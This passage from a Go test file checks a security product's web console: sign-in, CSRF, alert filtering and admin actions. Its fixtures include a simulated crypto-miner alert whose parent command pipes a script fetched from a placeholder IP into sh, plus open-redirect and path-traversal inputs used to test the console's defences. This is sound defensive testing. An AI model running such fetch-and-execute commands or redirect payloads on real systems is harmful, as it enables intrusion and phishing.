package console

import (
	"bufio"
	"context"
	"fmt"
	"html"
	"maps"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"path/filepath"
	"regexp"
	"slices"
	"sort"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/vigil-sec/vigil/internal/event"
	"github.com/vigil-sec/vigil/internal/server/store"
	"github.com/vigil-sec/vigil/internal/ship"
)

// testConsole is a console over a real SQLite store with two clusters
// (prod, dev), an admin token (named alice) and a reader token (named
// rita).
type testConsole struct {
	t       testing.TB
	st      *store.Store
	h       http.Handler
	now     time.Time
	prod    store.Cluster
	dev     store.Cluster
	prodKey string // prod's cluster credential
	admin   string
	reader  string
	batches int
}

func newTestConsole(t testing.TB, cfg Config) *testConsole {
	t.Helper()
	ctx := context.Background()
	st, err := store.Open(ctx, "sqlite://"+filepath.Join(t.TempDir(), "v.db"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { st.Close() })
	tc := &testConsole{t: t, st: st, now: time.Now().UTC().Truncate(time.Second)}
	if tc.prod, tc.prodKey, err = st.CreateCluster(ctx, "prod"); err != nil {
		t.Fatal(err)
	}
	if tc.dev, _, err = st.CreateCluster(ctx, "dev"); err != nil {
		t.Fatal(err)
	}
	if tc.admin, err = st.CreateToken(ctx, "alice", store.RoleAdmin); err != nil {
		t.Fatal(err)
	}
	if tc.reader, err = st.CreateToken(ctx, "rita", store.RoleReader); err != nil {
		t.Fatal(err)
	}
	cfg.Store = st
	cfg.Now = func() time.Time { return tc.now }
	c, err := New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	tc.h = c.Handler()
	return tc
}

// ingest stores a batch of cluster c (prod or dev) as its sensor on
// node-1 would send it.
func (tc *testConsole) ingest(c store.Cluster, b ship.Batch) {
	tc.t.Helper()
	tc.batches++
	b.BatchID = "batch-" + strconv.Itoa(tc.batches)
	if b.Node == "" {
		b.Node, b.Component = "node-1", "sensor"
	}
	b.SentAt = tc.now
	if _, err := tc.st.Ingest(context.Background(), c.ID, &b, tc.now); err != nil {
		tc.t.Fatal(err)
	}
}

// do serves one request signed in with token ("" for none); form, when
// not nil, is the url-encoded body.
func (tc *testConsole) do(method, target, token string, form url.Values, header ...string) *httptest.ResponseRecorder {
	tc.t.Helper()
	var req *http.Request
	if form != nil {
		req = httptest.NewRequest(method, target, strings.NewReader(form.Encode()))
		req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	} else {
		req = httptest.NewRequest(method, target, nil)
	}
	for i := 0; i+1 < len(header); i += 2 {
		req.Header.Set(header[i], header[i+1])
	}
	if token != "" {
		req.AddCookie(&http.Cookie{Name: cookieName, Value: token})
	}
	rec := httptest.NewRecorder()
	tc.h.ServeHTTP(rec, req)
	return rec
}

// page GETs target as token and wants status.
func (tc *testConsole) page(target, token string, status int) string {
	tc.t.Helper()
	rec := tc.do(http.MethodGet, target, token, nil)
	if rec.Code != status {
		tc.t.Fatalf("GET %s: status %d, want %d; body:\n%s", target, rec.Code, status, rec.Body)
	}
	return rec.Body.String()
}

// alert fetches an alert from the store.
func (tc *testConsole) alert(id string) store.Alert {
	tc.t.Helper()
	a, err := tc.st.GetAlert(context.Background(), id)
	if err != nil {
		tc.t.Fatal(err)
	}
	return a
}

// testAlert is a runtime alert in container cid of pod ns/pod on node-1,
// last seen ago before now.
func testAlert(id, rule, title string, sev event.Severity, at time.Time, mods ...func(*event.Alert)) event.Alert {
	a := event.Alert{
		ID: id, Rule: rule, Title: title, Severity: sev, Status: event.StatusActive, Source: "runtime",
		FirstSeen: at, LastSeen: at, Count: 1,
		Node: "node-1", Namespace: "shop", Pod: "web-1", Container: "web", ContainerID: "c0ffee000001",
		Image: "nginx:1.27", Workload: "Deployment/shop/web",
		Process: &event.Process{Pid: 42, Ppid: 7, Exe: "/usr/bin/" + rule, Args: []string{rule}},
	}
	for _, m := range mods {
		m(&a)
	}
	return a
}

var (
	rowRE   = regexp.MustCompile(`<tr data-alert="([^"]+)">`)
	countRE = regexp.MustCompile(`data-severity="(\w+)"><b>(\d+)</b>`)
	csrfRE  = regexp.MustCompile(`name="csrf" value="([^"]+)"`)
	hrefRE  = func(id string) *regexp.Regexp { return regexp.MustCompile(`href="([^"]*)" id="` + id + `"`) }
)

// listRows lists the alert ids of an alert list page, in order.
func listRows(body string) []string {
	var out []string
	for _, m := range rowRE.FindAllStringSubmatch(body, -1) {
		out = append(out, m[1])
	}
	return out
}

// listCounts reads the severity counts of an alert list page.
func listCounts(body string) map[string]int {
	out := map[string]int{}
	for _, m := range countRE.FindAllStringSubmatch(body, -1) {
		out[m[1]], _ = strconv.Atoi(m[2])
	}
	return out
}

// pageLink is the (unescaped) href of the element with this id, "" if the
// page has none.
func pageLink(body, id string) string {
	m := hrefRE(id).FindStringSubmatch(body)
	if m == nil {
		return ""
	}
	return html.UnescapeString(m[1])
}

func sortedIDs(s []string) []string {
	s = slices.Clone(s)
	sort.Strings(s)
	return s
}

// seedFilters stores five alerts across both clusters:
//
//	P1 prod high   crypto miner in shop/web-1, an hour ago, with a parent
//	P2 prod medium web shell in shop/api-2, two hours ago
//	P3 prod low    ptrace on the host (node-7), three hours ago
//	D1 dev  high   reverse shell in billing/pay-1, two days ago
//	D2 dev  info   download in billing/pay-1, dismissed, ten minutes ago
func (tc *testConsole) seedFilters() {
	tc.t.Helper()
	now := tc.now
	tc.ingest(tc.prod, ship.Batch{Alerts: []event.Alert{
		testAlert("P1", "runtime.crypto-miner", "Crypto miner started", event.High, now.Add(-time.Hour), func(a *event.Alert) {
			a.Process = &event.Process{Pid: 4242, Ppid: 17, Exe: "/tmp/xmrig", Args: []string{"/tmp/xmrig", "-o", "pool.example.net:3333", "--threads", "4"},
				Parent: &event.Lineage{Pid: 17, Exe: "/bin/sh", Args: []string{"sh", "-c", "curl -s http://203.0.113.7/x | sh"}}}
			a.Count = 12
		}),
		testAlert("P2", "runtime.web-shell", "Web shell spawned a shell", event.Medium, now.Add(-2*time.Hour), func(a *event.Alert) {
			a.Pod, a.ContainerID, a.Workload, a.Node = "api-2", "c0ffee000002", "Deployment/shop/api", "node-2"
		}),
		testAlert("P3", "runtime.ptrace", "Process traced another", event.Low, now.Add(-3*time.Hour), func(a *event.Alert) {
			a.Namespace, a.Pod, a.Container, a.ContainerID, a.Image, a.Workload, a.Node = "", "", "", "", "", "", "node-7"
		}),
	}})
	tc.ingest(tc.dev, ship.Batch{Alerts: []event.Alert{
		testAlert("D1", "runtime.reverse-shell", "Reverse shell opened", event.High, now.Add(-48*time.Hour), func(a *event.Alert) {
			a.Namespace, a.Pod, a.ContainerID, a.Workload, a.Node = "billing", "pay-1", "c0ffee000003", "Deployment/billing/pay", "node-3"
		}),
		testAlert("D2", "runtime.suspicious-download", "Download of a tool", event.Informational, now.Add(-10*time.Minute), func(a *event.Alert) {
			a.Namespace, a.Pod, a.ContainerID, a.Workload, a.Node = "billing", "pay-1", "c0ffee000003", "Deployment/billing/pay", "node-3"
			a.Status = event.StatusDismissed
		}),
	}})
}

// TestSignedOut asserts that every page but sign-in and the static files
// sends a visitor without a valid session to the sign-in page, keeping
// where they were going, and that an htmx request gets 401 with an
// HX-Redirect header instead of a redirect htmx would follow.
func TestSignedOut(t *testing.T) {
	tc := newTestConsole(t, Config{})
	for _, token := range []string{"", "vgl_r_not-a-token", "garbage"} {
		rec := tc.do(http.MethodGet, "/alerts?severity=high", token, nil)
		if rec.Code != http.StatusSeeOther {
			t.Fatalf("token %q: status %d, want 303", token, rec.Code)
		}
		if got, want := rec.Header().Get("Location"), "/login?next="+url.QueryEscape("/alerts?severity=high"); got != want {
			t.Errorf("token %q: Location %q, want %q", token, got, want)
		}
	}
	rec := tc.do(http.MethodGet, "/alerts", "", nil, "HX-Request", "true")
	if rec.Code != http.StatusUnauthorized {
		t.Fatalf("htmx: status %d, want 401", rec.Code)
	}
	if got := rec.Header().Get("HX-Redirect"); got != "/login?next=%2Falerts" {
		t.Errorf("htmx: HX-Redirect %q", got)
	}
	if loc := rec.Header().Get("Location"); loc != "" {
		t.Errorf("htmx: Location %q, want none", loc)
	}
	for _, path := range []string{"/alerts/P1", "/incidents", "/incidents/x", "/recommendations", "/recommendations/x", "/inventory", "/clusters"} {
		if rec := tc.do(http.MethodGet, path, "", nil); rec.Code != http.StatusSeeOther ||
			!strings.HasPrefix(rec.Header().Get("Location"), "/login?next=") {
			t.Errorf("GET %s signed out: %d %q", path, rec.Code, rec.Header().Get("Location"))
		}
	}
	// A form posted without a session changes nothing and goes to sign-in.
	tc.seedFilters()
	rec = tc.do(http.MethodPost, "/alerts/P1/status", "", url.Values{"status": {"dismissed"}, "reason": {"x"}})
	if rec.Code != http.StatusSeeOther || tc.alert("P1").Status != event.StatusActive {
		t.Errorf("signed-out POST: %d, alert %s", rec.Code, tc.alert("P1").Status)
	}
	if body := tc.page("/login?next=%2Falerts%3Fseverity%3Dhigh", "", http.StatusOK); !strings.Contains(body, `name="next" value="/alerts?severity=high"`) {
		t.Errorf("sign-in page does not carry next:\n%s", body)
	}
	// The front door is the sign-in form, or the alerts once signed in.
	if body := tc.page("/", "", http.StatusOK); !strings.Contains(body, `id="sign-in"`) || !strings.Contains(body, `name="next" value="/alerts"`) {
		t.Errorf("GET / signed out is not the sign-in form:\n%s", body)
	}
	if rec := tc.do(http.MethodGet, "/", tc.reader, nil); rec.Code != http.StatusSeeOther || rec.Header().Get("Location") != "/alerts" {
		t.Errorf("GET / signed in: %d %q, want 303 to /alerts", rec.Code, rec.Header().Get("Location"))
	}
}

// TestLogin asserts that only admin and reader tokens sign in, that the
// session cookie is HttpOnly and SameSite=Strict, and that the redirect
// after sign-in stays on the console.
func TestLogin(t *testing.T) {
	tc := newTestConsole(t, Config{})
	login := func(token, next string) *httptest.ResponseRecorder {
		t.Helper()
		form := url.Values{"token": {token}}
		if next != "" {
			form.Set("next", next)
		}
		return tc.do(http.MethodPost, "/login", "", form)
	}
	refused := func(rec *httptest.ResponseRecorder, want string) {
		t.Helper()
		if rec.Code != http.StatusUnauthorized {
			t.Errorf("status %d, want 401", rec.Code)
		}
		if !strings.Contains(rec.Body.String(), want) {
			t.Errorf("page does not say %q:\n%s", want, rec.Body)
		}
		if len(rec.Result().Cookies()) != 0 {
			t.Errorf("a refused sign-in set cookies: %v", rec.Result().Cookies())
		}
	}
	t.Run("refused", func(t *testing.T) {
		refused(login("vgl_a_AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA", ""), "not valid")
		refused(login("hunter2", ""), "not valid")
		refused(login("", ""), "Paste an admin or reader token")
		refused(login(tc.prodKey, ""), "cluster credential")
	})
	t.Run("reader", func(t *testing.T) {
		rec := login("  "+tc.reader+"\n", "")
		if rec.Code != http.StatusSeeOther || rec.Header().Get("Location") != "/alerts" {
			t.Fatalf("status %d, Location %q; want 303 to /alerts", rec.Code, rec.Header().Get("Location"))
		}
		var ck *http.Cookie
		for _, c := range rec.Result().Cookies() {
			if c.Name == "vigil_session" {
				ck = c
			}
		}
		if ck == nil {
			t.Fatalf("no vigil_session cookie: %v", rec.Header()["Set-Cookie"])
		}
		if !ck.HttpOnly || ck.SameSite != http.SameSiteStrictMode || ck.Path != "/" || ck.MaxAge <= 0 || ck.Secure {
			t.Errorf("cookie %+v: want HttpOnly, SameSite=Strict, Path=/, a MaxAge and not Secure over plain HTTP", ck)
		}
		// The cookie signs the next request in.
		if body := tc.page("/alerts", ck.Value, http.StatusOK); !strings.Contains(body, `data-role="reader"`) || !strings.Contains(body, "rita") {
			t.Errorf("signed-in page does not show the reader")
		}
	})
	t.Run("secure", func(t *testing.T) {
		tls := newTestConsole(t, Config{Secure: true})
		rec := tls.do(http.MethodPost, "/login", "", url.Values{"token": {tls.admin}})
		if cks := rec.Result().Cookies(); len(cks) != 1 || !cks[0].Secure {
			t.Errorf("Secure console: cookies %v", cks)
		}
	})
	t.Run("next", func(t *testing.T) {
		for next, want := range map[string]string{
			"/alerts/P1":                  "/alerts/P1",
			"/alerts?severity=high&q=x":   "/alerts?severity=high&q=x",
			"/incidents":                  "/incidents",
			"//evil.example":              "/alerts",
			"//evil.example/alerts":       "/alerts",
			"https://evil.example":        "/alerts",
			"https://evil.example/alerts": "/alerts",
			`/\evil.example`:              "/alerts",
			`\\evil.example`:              "/alerts",
			"evil.example":                "/alerts",
			"javascript:alert(1)":         "/alerts",
			"/login?next=//evil.example":  "/alerts",
		} {
			rec := login(tc.admin, next)
			if rec.Code != http.StatusSeeOther || rec.Header().Get("Location") != want {
				t.Errorf("next %q: %d to %q, want 303 to %q", next, rec.Code, rec.Header().Get("Location"), want)
			}
		}
		body := tc.page("/login?next="+url.QueryEscape("//evil.example"), "", http.StatusOK)
		if !strings.Contains(body, `name="next" value="/alerts"`) {
			t.Errorf("sign-in page keeps a foreign next")
		}
	})
	t.Run("cross-site sign-in form", func(t *testing.T) {
		form := url.Values{"token": {tc.admin}}
		if rec := tc.do(http.MethodPost, "/login", "", form, "Origin", "https://evil.example"); rec.Code != http.StatusForbidden || len(rec.Result().Cookies()) != 0 {
			t.Errorf("a sign-in posted from another site: %d, cookies %v", rec.Code, rec.Result().Cookies())
		}
		if rec := tc.do(http.MethodPost, "/login", "", form, "Origin", "http://example.com"); rec.Code != http.StatusSeeOther {
			t.Errorf("a sign-in from the console's own origin: %d", rec.Code)
		}
	})
	t.Run("logout", func(t *testing.T) {
		if rec := tc.do(http.MethodPost, "/logout", tc.reader, url.Values{}); rec.Code != http.StatusForbidden {
			t.Errorf("logout without the CSRF token: %d, want 403", rec.Code)
		}
		rec := tc.do(http.MethodPost, "/logout", tc.reader, url.Values{"csrf": {csrfToken(tc.reader)}})
		cks := rec.Result().Cookies()
		if rec.Code != http.StatusSeeOther || len(cks) != 1 || cks[0].Name != "vigil_session" || cks[0].MaxAge >= 0 || cks[0].Value != "" {
			t.Errorf("logout: %d, cookies %v", rec.Code, cks)
		}
	})
}

// TestLoginNextControlCharacters asserts that a next value which a
// browser turns into another origin does not leave the console: browsers
// drop tabs and newlines from a URL before reading it (WHATWG URL
// parsing), so "/<tab>/evil.example" is "//evil.example" to them
// (Chromium follows it when no CSP form-action stops it, e.g. from a form
// on another site). The Location header is read over a real connection,
// where net/http has already turned newlines into spaces.
func TestLoginNextControlCharacters(t *testing.T) {
	tc := newTestConsole(t, Config{})
	srv := httptest.NewServer(tc.h)
	defer srv.Close()
	for _, next := range []string{"/\t/evil.example", "/\t\\evil.example", "/\n/evil.example", "/\r\n/evil.example", "/\t/\t/evil.example"} {
		// Go's client refuses such a Location, so the response is read raw.
		conn, err := net.Dial("tcp", srv.Listener.Addr().String())
		if err != nil {
			t.Fatal(err)
		}
		form := url.Values{"token": {tc.admin}, "next": {next}}.Encode()
		req, _ := http.NewRequest(http.MethodPost, srv.URL+"/login", strings.NewReader(form))
		req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		if err := req.Write(conn); err != nil {
			t.Fatal(err)
		}
		resp, err := http.ReadResponse(bufio.NewReader(conn), req)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		conn.Close()
		loc := resp.Header.Get("Location")
		browser := strings.NewReplacer("\t", "", "\n", "", "\r", "").Replace(strings.TrimLeft(loc, " "))
		if resp.StatusCode != http.StatusSeeOther || strings.HasPrefix(browser, "//") || strings.HasPrefix(browser, `/\`) {
			t.Errorf("next %q: %d to %q, which a browser reads as %q: another origin", next, resp.StatusCode, loc, browser)
		}
	}
}

// TestOddAlertIDs asserts that the console links to and acts on an alert
// whatever its id holds: ids come from the sensors and may contain '/',
// '?', '#' or '%'. An id must not be able to point the admin's forms at
// another alert.
func TestOddAlertIDs(t *testing.T) {
	tc := newTestConsole(t, Config{})
	tc.seedFilters()
	odd := "odd/id?x=1#frag %2F"
	traversal := "x/../../alerts/D1"
	tc.ingest(tc.prod, ship.Batch{Alerts: []event.Alert{
		testAlert(odd, "runtime.odd", "Odd id", event.High, tc.now),
		testAlert(traversal, "runtime.sneaky", "Sneaky id", event.High, tc.now.Add(-time.Second)),
	}})
	body := tc.page("/alerts", tc.reader, http.StatusOK)
	for id, title := range map[string]string{odd: "Odd id", traversal: "Sneaky id"} {
		m := regexp.MustCompile(`<a href="([^"]*)">` + title + `</a>`).FindStringSubmatch(body)
		if m == nil {
			t.Fatalf("no link to %q", id)
		}
		// What the browser requests: the href resolved against the page.
		u, err := url.Parse("http://console.example/alerts")
		if err != nil {
			t.Fatal(err)
		}
		href, err := u.Parse(html.UnescapeString(m[1]))
		if err != nil {
			t.Fatal(err)
		}
		rec := tc.do(http.MethodGet, href.RequestURI(), tc.admin, nil)
		if rec.Code != http.StatusOK || !strings.Contains(rec.Body.String(), `<h1 id="alert-title">`+title+`</h1>`) {
			t.Errorf("the link to %q (%s) goes to %s: status %d", id, m[1], href.RequestURI(), rec.Code)
			continue
		}
		a := regexp.MustCompile(`<form method="post" action="([^"]*)" id="dismiss-form">`).FindStringSubmatch(rec.Body.String())
		if a == nil {
			t.Fatalf("no dismiss form for %q", id)
		}
		if action, _ := u.Parse(html.UnescapeString(a[1])); action.EscapedPath() != "/alerts/"+url.PathEscape(id)+"/status" {
			t.Errorf("the dismiss form of %q posts to %s", id, action.EscapedPath())
		}
	}
}

// TestAlertList asserts what a reader sees on the alert list: the active
// alerts newest first, the counts by severity, and every filter of the
// form narrowing the list; bad filter values are a 400 page, never a 500.
func TestAlertList(t *testing.T) {
	tc := newTestConsole(t, Config{})
	tc.seedFilters()
	body := tc.page("/alerts", tc.reader, http.StatusOK)
	if got, want := listRows(body), []string{"P1", "P2", "P3", "D1"}; !slices.Equal(got, want) {
		t.Errorf("default list %v, want %v (active, newest first)", got, want)
	}
	for _, title := range []string{"Crypto miner started", "Web shell spawned a shell", "Process traced another", "Reverse shell opened"} {
		if !strings.Contains(body, title) {
			t.Errorf("list does not show %q", title)
		}
	}
	if strings.Contains(body, "Download of a tool") {
		t.Errorf("default list shows a dismissed alert")
	}
	if got, want := listCounts(body), map[string]int{"high": 2, "medium": 1, "low": 1, "informational": 0}; !maps.Equal(got, want) {
		t.Errorf("counts %v, want %v", got, want)
	}
	if !strings.Contains(body, "<b>4</b> in all") {
		t.Errorf("no total of 4")
	}
	if !strings.Contains(body, "prod / shop / web-1") || !strings.Contains(body, "prod / node node-7") {
		t.Errorf("resources are not shown as cluster / namespace / pod or cluster / node")
	}

	for _, c := range []struct {
		query string
		want  []string
	}{
		{"severity=high", []string{"P1", "D1"}},
		{"severity=high&severity=low", []string{"P1", "P3", "D1"}},
		{"status=all", []string{"D2", "P1", "P2", "P3", "D1"}},
		{"status=dismissed", []string{"D2"}},
		{"status=resolved", nil},
		{"cluster=dev", []string{"D1"}},
		{"cluster=dev&status=all", []string{"D2", "D1"}},
		{"cluster=prod&severity=high", []string{"P1"}},
		{"cluster=nope", nil},
		{"namespace=shop", []string{"P1", "P2"}},
		{"namespace=+billing+&status=all", []string{"D2", "D1"}},
		{"rule=runtime.ptrace", []string{"P3"}},
		{"type=node", []string{"P3"}},
		{"type=pod", []string{"P1", "P2", "D1"}},
		{"type=cluster", nil},
		{"resource=web-1", []string{"P1"}},
		{"resource=shop%2Fapi-2", []string{"P2"}},
		{"resource=Deployment%2Fbilling%2Fpay&status=all", []string{"D2", "D1"}},
		{"resource=node-7", []string{"P3"}},
		{"q=xmrig", []string{"P1"}},
		{"q=REVERSE", []string{"D1"}},
		{"q=runtime.web", []string{"P2"}},
		{"q=nothing-like-this", nil},
		{"time=1h", []string{"P1"}},
		{"time=24h", []string{"P1", "P2", "P3"}},
		{"time=7d", []string{"P1", "P2", "P3", "D1"}},
		{"time=24h&status=all", []string{"D2", "P1", "P2", "P3"}},
		{"sort=first_seen", []string{"P1", "P2", "P3", "D1"}},
		{"sort=severity", []string{"P1", "D1", "P2", "P3"}},
	} {
		body := tc.page("/alerts?"+c.query, tc.reader, http.StatusOK)
		if got := listRows(body); !slices.Equal(got, c.want) {
			t.Errorf("?%s: %v, want %v", c.query, got, c.want)
		}
		if len(c.want) == 0 && !strings.Contains(body, `id="no-alerts"`) {
			t.Errorf("?%s: no empty-state text", c.query)
		}
	}
	// The counts ignore the severity filter (they are its links) but follow
	// the others.
	body = tc.page("/alerts?cluster=prod&severity=high", tc.reader, http.StatusOK)
	if got, want := listCounts(body), map[string]int{"high": 1, "medium": 1, "low": 1, "informational": 0}; !maps.Equal(got, want) {
		t.Errorf("prod counts %v, want %v", got, want)
	}
	if !strings.Contains(body, `href="/alerts?cluster=prod&amp;severity=medium&amp;status=active"`) {
		t.Errorf("the medium count does not link to the list narrowed to medium")
	}
	// The form shows the filter it applied.
	if !strings.Contains(body, `value="high" checked`) || !strings.Contains(body, `<option value="prod" selected>`) {
		t.Errorf("the filter form does not show the applied filter")
	}

	for _, q := range []string{"severity=bogus", "severity=HIGH%00", "time=3y", "time=-1h", "status=bogus", "type=bogus", "sort=bogus",
		"cursor=not-a-cursor", "cursor=eyJzIjoibGFzdF9zZWVuIn0"} {
		rec := tc.do(http.MethodGet, "/alerts?"+q, tc.reader, nil)
		if rec.Code != http.StatusBadRequest {
			t.Errorf("?%s: status %d, want 400", q, rec.Code)
			continue
		}
		if !strings.Contains(rec.Body.String(), `role="alert"`) || !strings.Contains(rec.Body.String(), "<h1>400</h1>") {
			t.Errorf("?%s: not an error page:\n%s", q, rec.Body)
		}
	}
}

// TestAlertListHTMX asserts that htmx's refresh of the list gets only the
// results block, and that the first page polls while later pages do not.
func TestAlertListHTMX(t *testing.T) {
	tc := newTestConsole(t, Config{})
	tc.seedFilters()
	rec := tc.do(http.MethodGet, "/alerts?severity=high", tc.reader, nil, "HX-Request", "true")
	body := rec.Body.String()
	if rec.Code != http.StatusOK || strings.Contains(body, "<html") || strings.Contains(body, `id="filters"`) ||
		!strings.HasPrefix(strings.TrimSpace(body), `<div id="results"`) {
		t.Fatalf("htmx refresh: %d, want the results block only:\n%s", rec.Code, body)
	}
	if got := listRows(body); !slices.Equal(got, []string{"P1", "D1"}) {
		t.Errorf("htmx refresh rows %v", got)
	}
	full := tc.page("/alerts?severity=high", tc.reader, http.StatusOK)
	if !strings.Contains(full, `hx-get="/alerts?severity=high&amp;status=active" hx-trigger="every 5s"`) {
		t.Errorf("the first page does not poll itself")
	}
}

// TestAlertDetails asserts that the alert page shows the process, its
// command line and its parent, and offers a reader no control.
func TestAlertDetails(t *testing.T) {
	tc := newTestConsole(t, Config{})
	tc.seedFilters()
	body := tc.page("/alerts/P1", tc.reader, http.StatusOK)
	for _, want := range []string{
		`<h1 id="alert-title">Crypto miner started</h1>`,
		`<code id="proc-exe">/tmp/xmrig</code>`,
		`<code id="proc-cmdline">/tmp/xmrig -o pool.example.net:3333 --threads 4</code>`,
		`<code id="proc-parent">/bin/sh</code>`,
		html.EscapeString(`sh -c 'curl -s http://203.0.113.7/x | sh'`),
		`<dd id="alert-count">12</dd>`,
		`<dd id="res-pod">web-1</dd>`,
		`id="incident-link"`,
		`id="process-tree"`,
	} {
		if !strings.Contains(body, want) {
			t.Errorf("alert page lacks %s", want)
		}
	}
	for _, control := range []string{`id="dismiss"`, `id="actions"`, `id="dismiss-form"`, `id="suppress"`, `action="/alerts/`} {
		if strings.Contains(body, control) {
			t.Errorf("a reader is offered %s", control)
		}
	}
	// A reader's forged form, with the right CSRF token, is refused.
	for _, path := range []string{"/alerts/P1/status", "/alerts/P1/suppress"} {
		rec := tc.do(http.MethodPost, path, tc.reader, url.Values{
			"csrf": {csrfToken(tc.reader)}, "status": {"dismissed"}, "reason": {"not mine"}, "scope": {"workload"}})
		if rec.Code != http.StatusForbidden || !strings.Contains(rec.Body.String(), "Only an admin") {
			t.Errorf("reader POST %s: %d, want 403", path, rec.Code)
		}
	}
	if a := tc.alert("P1"); a.Status != event.StatusActive {
		t.Errorf("a reader changed the alert: %s", a.Status)
	}
	if xs, _ := tc.st.ListExceptions(context.Background(), tc.prod.ID); len(xs) != 0 {
		t.Errorf("a reader made exceptions: %v", xs)
	}
	// A host alert has no pod; a minimal alert renders too.
	tc.page("/alerts/P3", tc.reader, http.StatusOK)
	tc.ingest(tc.prod, ship.Batch{Alerts: []event.Alert{{ID: "M1", Rule: "k8s.audit", Severity: event.Low, LastSeen: tc.now}}})
	tc.page("/alerts/M1", tc.reader, http.StatusOK)
	if body := tc.page("/alerts/NOPE", tc.reader, http.StatusNotFound); !strings.Contains(body, "Not found") {
		t.Errorf("unknown alert: no not-found page")
	}
}

// TestAdminActions asserts that an admin dismisses an alert with the form
// the page gives (CSRF token included), that the change is recorded under
// the admin token's name, and that forms without the right token or a
// reason are refused.
func TestAdminActions(t *testing.T) {
	tc := newTestConsole(t, Config{})
	tc.seedFilters()
	body := tc.page("/alerts/P2", tc.admin, http.StatusOK)
	if !strings.Contains(body, `id="dismiss"`) || !strings.Contains(body, `id="suppress"`) {
		t.Fatalf("an admin is not offered dismiss and suppress")
	}
	m := csrfRE.FindStringSubmatch(body)
	if m == nil {
		t.Fatal("no csrf input on the admin's alert page")
	}
	csrf := m[1]
	post := func(path string, form url.Values) *httptest.ResponseRecorder {
		t.Helper()
		return tc.do(http.MethodPost, path, tc.admin, form)
	}

	t.Run("refused", func(t *testing.T) {
		for name, c := range map[string]struct {
			form   url.Values
			status int
		}{
			"no csrf":       {url.Values{"status": {"dismissed"}, "reason": {"fp"}}, http.StatusForbidden},
			"wrong csrf":    {url.Values{"csrf": {"0123456789abcdef0123456789abcdef"}, "status": {"dismissed"}, "reason": {"fp"}}, http.StatusForbidden},
			"reader's csrf": {url.Values{"csrf": {csrfToken(tc.reader)}, "status": {"dismissed"}, "reason": {"fp"}}, http.StatusForbidden},
			"no reason":     {url.Values{"csrf": {csrf}, "status": {"dismissed"}}, http.StatusBadRequest},
			"blank reason":  {url.Values{"csrf": {csrf}, "status": {"dismissed"}, "reason": {"  \t "}}, http.StatusBadRequest},
			"long reason":   {url.Values{"csrf": {csrf}, "status": {"dismissed"}, "reason": {strings.Repeat("x", maxReason+1)}}, http.StatusBadRequest},
			"bad status":    {url.Values{"csrf": {csrf}, "status": {"deleted"}, "reason": {"fp"}}, http.StatusBadRequest},
		} {
			rec := post("/alerts/P2/status", c.form)
			if rec.Code != c.status {
				t.Errorf("%s: status %d, want %d", name, rec.Code, c.status)
			}
		}
		if rec := post("/alerts/NOPE/status", url.Values{"csrf": {csrf}, "status": {"dismissed"}, "reason": {"fp"}}); rec.Code != http.StatusNotFound {
			t.Errorf("unknown alert: status %d, want 404", rec.Code)
		}
		if a := tc.alert("P2"); a.Status != event.StatusActive {
			t.Fatalf("a refused form changed the alert: %+v", a)
		}
	})

	t.Run("dismiss", func(t *testing.T) {
		rec := post("/alerts/P2/status", url.Values{"csrf": {csrf}, "status": {"dismissed"}, "reason": {"pentest by the red team"}})
		if rec.Code != http.StatusSeeOther || rec.Header().Get("Location") != "/alerts/P2?done=dismissed" {
			t.Fatalf("dismiss: %d to %q; body:\n%s", rec.Code, rec.Header().Get("Location"), rec.Body)
		}
		a := tc.alert("P2")
		if a.Status != event.StatusDismissed || a.StatusBy != "alice" || a.StatusReason != "pentest by the red team" || !a.StatusAt.Equal(tc.now) {
			t.Errorf("stored alert: status %q by %q (%q) at %v", a.Status, a.StatusBy, a.StatusReason, a.StatusAt)
		}
		if got := listRows(tc.page("/alerts", tc.admin, http.StatusOK)); slices.Contains(got, "P2") {
			t.Errorf("a dismissed alert is still in the default list: %v", got)
		}
		if got := listRows(tc.page("/alerts?status=dismissed", tc.admin, http.StatusOK)); !slices.Equal(sortedIDs(got), []string{"D2", "P2"}) {
			t.Errorf("dismissed list %v", got)
		}
		body := tc.page("/alerts/P2?done=dismissed", tc.admin, http.StatusOK)
		for _, want := range []string{`id="flash"`, `<span class="status status-dismissed" id="alert-status">dismissed</span>`,
			`<td class="actor">alice</td>`, `id="reactivate"`} {
			if !strings.Contains(body, want) {
				t.Errorf("page after dismissing lacks %s", want)
			}
		}
		if strings.Contains(body, `id="dismiss"`) {
			t.Errorf("a dismissed alert still offers dismiss")
		}
		// Reactivate it.
		rec = post("/alerts/P2/status", url.Values{"csrf": {csrf}, "status": {"active"}, "reason": {"not a pentest after all"}})
		if rec.Code != http.StatusSeeOther || tc.alert("P2").Status != event.StatusActive {
			t.Errorf("reactivate: %d, %s", rec.Code, tc.alert("P2").Status)
		}
	})

	t.Run("suppress", func(t *testing.T) {
		if rec := post("/alerts/P1/suppress", url.Values{"csrf": {csrf}, "scope": {"bogus"}, "reason": {"x"}}); rec.Code != http.StatusBadRequest {
			t.Errorf("bad scope: status %d, want 400", rec.Code)
		}
		if rec := post("/alerts/P3/suppress", url.Values{"csrf": {csrf}, "scope": {"image"}, "reason": {"x"}}); rec.Code != http.StatusBadRequest {
			t.Errorf("image scope on a host alert: status %d, want 400", rec.Code)
		}
		if rec := post("/alerts/P1/suppress", url.Values{"csrf": {csrf}, "scope": {"workload"}}); rec.Code != http.StatusBadRequest {
			t.Errorf("no reason: status %d, want 400", rec.Code)
		}
		if xs, _ := tc.st.ListExceptions(context.Background(), tc.prod.ID); len(xs) != 0 {
			t.Fatalf("refused suppressions made exceptions: %+v", xs)
		}
		rec := post("/alerts/P1/suppress", url.Values{"csrf": {csrf}, "scope": {"workload"}, "reason": {"our miner benchmark"}, "days": {"7"}})
		if rec.Code != http.StatusSeeOther || rec.Header().Get("Location") != "/alerts/P1?done=suppressed" {
			t.Fatalf("suppress: %d to %q; body:\n%s", rec.Code, rec.Header().Get("Location"), rec.Body)
		}
		xs, err := tc.st.ListExceptions(context.Background(), tc.prod.ID)
		if err != nil {
			t.Fatal(err)
		}
		if len(xs) != 1 {
			t.Fatalf("exceptions %+v, want one", xs)
		}
		x := xs[0]
